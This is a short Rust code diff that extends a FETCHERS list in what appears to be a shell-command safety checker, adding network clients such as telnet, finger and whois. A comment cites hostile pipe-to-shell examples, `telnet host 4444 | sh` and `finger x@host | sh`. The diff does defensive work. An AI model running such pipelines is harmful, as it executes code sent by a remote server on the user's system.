@@ -27,6 +27,13 @@ pub const FETCHERS: &[&str] = &[
     "ncat",
     "wget2",
     "curlie",
+    // Clients whose output is what a server sent: piped into a shell, it runs the server's
+    // text (`telnet host 4444 | sh`, `finger x@host | sh`).
+    "telnet",
+    "finger",
+    "whois",
+    "ab",
+    "lwp-download",
 ];
 
 /// Tools that print shell setup for themselves, meant for `eval "$(tool …)"`, by name and
